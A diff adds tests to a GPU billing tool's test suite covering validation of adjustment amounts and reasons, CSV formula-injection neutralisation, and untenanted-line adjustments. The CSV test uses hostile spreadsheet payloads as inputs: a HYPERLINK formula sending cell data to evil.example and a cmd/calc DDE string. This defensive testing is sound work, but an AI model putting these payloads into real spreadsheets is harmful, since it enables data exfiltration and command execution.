@@ -337,6 +337,93 @@ def test_an_issued_bill_never_changes_and_adjustments_are_audited(farm, tmp_path
     assert rc == 0 and ",adjustment,1," in out and "outage credit" in out
 
 
+BAD_AMOUNTS = {"1e400000": "not a plain decimal amount", "1_000": "not a plain decimal amount",
+               "\u0661\u0660": "not a plain decimal amount", " 5": "not a plain decimal amount",
+               "5.": "not a plain decimal amount", ".5": "not a plain decimal amount",
+               "NaN": "not a plain decimal amount", "-Infinity": "not a plain decimal amount",
+               "0x10": "not a plain decimal amount", "--5": "not a plain decimal amount",
+               "1" * 400001: "400001 digits before the decimal point, more than 12",
+               "1234567890123": "13 digits before the decimal point, more than 12",
+               "1.001": "more decimal places", "-0.00": "non-zero"}
+BAD_REASONS = {"two\nlines": "U+000A at character 4", "a\ttab": "U+0009", "\x1b[31mred": "U+001B",
+               "\u202eevil": "U+202E", "nul\x00": "U+0000", "x" * 501: "over 500 characters", "  ": "needs a reason"}
+
+
+def test_adjustment_amounts_and_reasons_are_checked_and_refusals_write_nothing(farm, tmp_path, capsys):
+    host, _ = farm
+    assert _run(host, "bill", "--prices", str(_prices(tmp_path)), "--period", "2026-11", "--issue",
+                capsys=capsys)[0] == 0
+    store = StateStore(host.state_dir)
+    n_audit = len(store.audit_rows())
+    cases = [(a, "outage credit", w) for a, w in BAD_AMOUNTS.items()] + [("-1.00", r, w) for r, w in BAD_REASONS.items()]
+    for amount, reason, words in cases:
+        rc, out, err = _run(host, "bill", "adjust", "--period", "2026-11", "--tenant", "acme", "--amount", amount,
+                            "--reason", reason, capsys=capsys)
+        lines = err.strip().splitlines()
+        assert rc == 2 and out == "" and len(lines) == 1 and words in lines[0] and "; " in lines[0], (amount, err)
+        assert len(err) < 400, err                         # the input is never echoed whole
+    assert len(store.audit_rows()) == n_audit and st.bill_adjustments(store, "2026-11") == []
+    # plain decimal text within bounds is taken, exactly
+    for amount, stored in (("+5", "5"), ("999999999999.99", "999999999999.99"), ("-0.01", "-0.01")):
+        rc, out, err = _run(host, "--json", "bill", "adjust", "--period", "2026-11", "--tenant", "ACME",
+                            "--amount", amount, "--reason", "r\u00e9duction \u00e0 l'amiable", capsys=capsys)
+        assert rc == 0, err
+        assert json.loads(out)["amount"] == stored and json.loads(out)["tenant"] == "acme"
+    assert [a[2] for a in st.bill_adjustments(store, "2026-11")] == ["5", "999999999999.99", "-0.01"]
+    assert len(store.audit_rows()) == n_audit + 3
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(farm, tmp_path, capsys):
+    host, loads = farm
+    assert _run(host, "bill", "--prices", str(_prices(tmp_path)), "--period", "2026-11", "--issue",
+                capsys=capsys)[0] == 0
+    reasons = ['=HYPERLINK("http://evil.example/?x="&A1,"refund")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+               "plain credit"]
+    for r in reasons:
+        assert _run(host, "bill", "adjust", "--period", "2026-11", "--tenant", "acme", "--amount", "-1.50",
+                    "--reason", r, capsys=capsys)[0] == 0
+    rc, out, err = _run(host, "bill", "--period", "2026-11", "--csv", capsys=capsys)
+    assert rc == 0, err
+    rows = [dict(zip(ops.CSV_COLUMNS, r)) for r in list(csv.reader(io.StringIO(out)))[1:]]
+    adj = [r for r in rows if r["item"] == "adjustment"]
+    assert [r["note"] for r in adj] == ["'" + r for r in reasons[:4]] + ["plain credit"]
+    assert {r["amount"] for r in adj} == {"-1.50"} and {r["rate"] for r in adj} == {"-1.50"}   # numbers stay
+    assert not [r for r in rows for c in r.values() if c[:1] in ("=", "+", "@", "\t", "\r")]
+    # the JSON carries the reason unchanged
+    rc, out, _ = _run(host, "--json", "bill", "--period", "2026-11", capsys=capsys)
+    assert [a["reason"] for a in json.loads(out)["adjustments"]] == reasons
+    assert ops.csv_safe("\tx") == "'\tx" and ops.csv_safe("\rx") == "'\rx" and ops.csv_safe("a=b") == "a=b"
+    assert ops.csv_safe(-3) == -3
+
+
+def test_the_untenanted_lines_can_be_adjusted_as_the_bill_names_them(farm, tmp_path, capsys):
+    host, _ = farm
+    store = StateStore(host.state_dir)
+    with store.transaction() as conn:            # a domain naming no tenant ran an hour in November
+        st.add_usage(conn, [UsageRow("2026-11-02T00:00:00Z", "untenanted", DOM_A1, "vgpu", "0000:81:00.0", "A40-8Q",
+                                     "vm-x", "", "", 3600.0, 0.0, 0, 0, 0, 0, 1)])
+    assert _run(host, "bill", "--prices", str(_prices(tmp_path)), "--period", "2026-11", "--issue",
+                capsys=capsys)[0] == 0
+    rc, out, _ = _run(host, "bill", "--period", "2026-11", capsys=capsys)
+    assert rc == 0 and "total (no tenant): 0.80 EUR" in out
+    # a tenant not billed: the hint lists the tenants as --tenant takes them, '(no tenant)' among them
+    rc, _, err = _run(host, "bill", "adjust", "--period", "2026-11", "--tenant", "nobody", "--amount", "1",
+                      "--reason", "x", capsys=capsys)
+    assert rc == 2 and "'(no tenant)'" in err and "'acme'" in err and "''" not in err, err
+    for name in ("(no tenant)", "(No Tenant)", ""):
+        rc, out, err = _run(host, "--json", "bill", "adjust", "--period", "2026-11", "--tenant", name,
+                            "--amount", "-0.80", "--reason", "not ours", capsys=capsys)
+        assert rc == 0, err
+        assert json.loads(out)["tenant"] == ""
+    assert [(a[1], a[2]) for a in st.bill_adjustments(store, "2026-11")] == [("", "-0.80")] * 3
+    audit = store.audit_rows()[-1]
+    assert audit.operation == "bill adjust 2026-11" and audit.value.startswith("tenant (no tenant): -0.80 EUR")
+    rc, out, _ = _run(host, "--json", "bill", "--period", "2026-11", "--tenant", "(no tenant)", capsys=capsys)
+    doc = json.loads(out)
+    assert {ln["tenant"] for ln in doc["lines"]} == {""} and len(doc["adjustments"]) == 3
+    assert doc["total_after_adjustments"] == "-1.60"
+
+
 def test_refusals_write_nothing(farm, tmp_path, capsys):
     host, _ = farm
     prices = _prices(tmp_path)
